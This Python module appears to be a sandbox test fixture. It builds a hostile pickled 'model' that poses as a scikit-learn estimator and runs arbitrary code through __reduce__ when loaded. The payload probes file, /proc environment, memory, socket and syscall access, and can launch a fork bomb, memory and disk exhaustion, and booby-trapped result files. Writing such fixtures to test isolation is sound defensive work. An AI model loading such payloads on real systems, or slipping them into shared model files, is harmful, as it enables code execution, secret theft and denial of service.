"""A hostile model: a pickle that runs what it likes, when it is loaded and when it is asked.

It is what an attacker could upload: an estimator by its class, a program by its file. The number
that it is asked for says what it does; whoever is harmed has to notice elsewhere.
"""

from __future__ import annotations

import pickle
from typing import Any

__all__ = ["DEEDS", "villain"]

DEEDS = {
    "behave": 0, "snoop": 1, "fork": 2, "hog": 3, "shout": 5, "hang": 6, "nan": 7,
    "miscount": 8, "exit": 9, "crash": 10, "fill": 11, "booby-trap": 12, "tell": 13,
    "spin": 14, "spin-all": 15,
}  # fmt: skip

_PROGRAM = '''
import ctypes, os, signal, socket, sys, time
import numpy
from sklearn.base import BaseEstimator

def tried(name, act):
    """Note what worked and should not have."""
    try:
        act()
    except (OSError, ValueError):
        return []
    return [name]

def read(path):
    with open(path, "rb") as file:
        file.read(64)

def write(path):
    with open(path, "ab") as file:
        file.write(b"villain was here")

def reach(kind, address, family=socket.AF_INET):
    with socket.socket(family, kind) as made:
        made.settimeout(2)
        made.connect(address)
        made.send(b"villain was here")

def run(call, *arguments):
    if ctypes.CDLL(None, use_errno=True).syscall(call, *arguments) < 0:
        raise OSError

def snoop():
    found = []
    for path in READ:
        found += tried("read " + path, lambda: read(path))
        found += tried("list " + path, lambda: os.listdir(path))
    for path in WRITE:
        found += tried("write " + path, lambda: write(path))
        found += tried("link " + path, lambda: os.symlink("/etc", path + ".link"))
        found += tried("empty " + path, lambda: os.truncate(path, 0))
        try:  # it is told that this worked; the scene looks whether it did
            os.chmod(path, 0o777)
            os.utime(path, (1, 1))
        except OSError:
            pass
    for pid in PIDS:
        found += tried("environ", lambda: read("/proc/%d/environ" % pid))
        found += tried("memory", lambda: read("/proc/%d/mem" % pid))
        found += tried("kill", lambda: os.kill(pid, 0))
        found += tried("limit", lambda: __import__("resource").prlimit(pid, 7))
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        found += tried("connect", lambda: reach(kind, ("127.0.0.1", PORT)))
    for path in SOCKETS:
        found += tried("unix " + path, lambda: reach(socket.SOCK_STREAM, path, socket.AF_UNIX))
    found += tried("listen", lambda: socket.create_server(("127.0.0.1", 0)))
    if os.uname().machine == "x86_64":
        found += tried("ptrace", lambda: run(101, 16, PIDS[0], 0, 0))
        found += tried("io_uring", lambda: run(425, 1, ctypes.create_string_buffer(256)))
        found += tried("unshare", lambda: run(272, 0x10000000))
        found += tried("mount", lambda: run(165, b"x", b"/tmp", b"tmpfs", 0, 0))
    return found

def fork():
    count = 0
    try:
        while True:
            if os.fork() == 0:
                os.setsid()  # away from whoever may kill its group
                while True:
                    signal.pause()
            count += 1
    except OSError:
        return count

def spin():
    until_s = time.monotonic() + 2
    while time.monotonic() < until_s:
        pass

def spin_all():
    made = []
    for _ in range(4 * os.cpu_count()):
        pid = os.fork()
        if pid == 0:
            spin()
            os._exit(0)
        made.append(pid)
    for pid in made:
        os.waitpid(pid, 0)

def hog():
    held = []
    while True:
        held.append(bytearray(b"x") * (16 << 20))

def shout():
    for _ in range(160):
        sys.stdout.write("a" * (1 << 20))
    return 1

def fill():
    with open("large", "wb") as file:
        file.seek(1 << 30)
        file.write(b"x" * 4096)

def booby_trap():
    own = os.path.dirname(os.getcwd())
    for name in ("ready.json", "failed.json"):
        if os.path.exists(os.path.join(own, name)):
            os.unlink(os.path.join(own, name))
    os.mkfifo(os.path.join(own, "ready.json"))
    os.symlink(READ[0], os.path.join(own, "failed.json"))
    for _ in range(500):
        os.mkdir("deep")
        os.chdir("deep")
    os._exit(8)

class Villain(BaseEstimator):
    def __init__(self):
        self.at_load = snoop()

    def predict(self, rows):
        deed = int(rows[0][0])
        if deed == 1:
            return numpy.array(["; ".join(self.at_load + snoop())] * len(rows))
        if deed == 2:
            return numpy.array([fork()])
        if deed == 3:
            hog()
        if deed == 5:
            return numpy.array([shout()])
        if deed == 6:
            signal.pause()
        if deed == 7:
            return numpy.array([float("nan")])
        if deed == 8:
            return numpy.array([1.0, 2.0, 3.0])
        if deed == 9:
            os._exit(7)
        if deed == 10:
            os.kill(os.getpid(), signal.SIGSEGV)
        if deed == 11:
            fill()
        if deed == 12:
            booby_trap()
        if deed == 13:
            return numpy.array([os.getpid()])
        if deed == 14:
            spin()
        if deed == 15:
            spin_all()
        return numpy.array([float(deed)] * len(rows))

if HOG_AT_LOAD:
    hog()
made = Villain()
'''


class _Runs:
    """Is pickled as the result of a program."""

    def __init__(self, program: str) -> None:
        self._program = program

    def __reduce__(self) -> Any:
        # The program's globals are the dictionary that its result is taken from.
        text = f"(lambda names: (exec({self._program!r}, names), names['made'])[1])({{}})"
        return (eval, (text,))


def villain(
    *, read: list[str], write: list[str], pids: list[int], port: int, sockets: list[str],
    hog_at_load: bool = False,
) -> bytes:  # fmt: skip
    """Return a hostile model; the arguments name what it tries to get at."""
    knows = f"READ, WRITE, PIDS = {read!r}, {write!r}, {pids!r}\n"
    knows += f"PORT, SOCKETS, HOG_AT_LOAD = {port}, {sockets!r}, {hog_at_load}\n"
    return pickle.dumps(_Runs(knows + _PROGRAM))
